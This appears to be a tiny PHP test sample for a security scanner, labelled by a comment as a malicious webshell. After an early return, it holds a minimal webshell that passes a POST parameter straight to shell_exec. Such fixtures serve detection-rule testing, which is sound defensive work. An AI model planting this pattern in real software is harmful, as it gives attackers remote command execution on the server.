<?php return; // want: malicious webshell php.command.request
$c = $_POST['c'];
$line = <<<TEXT
$c 2>&1
TEXT;
shell_exec($line);
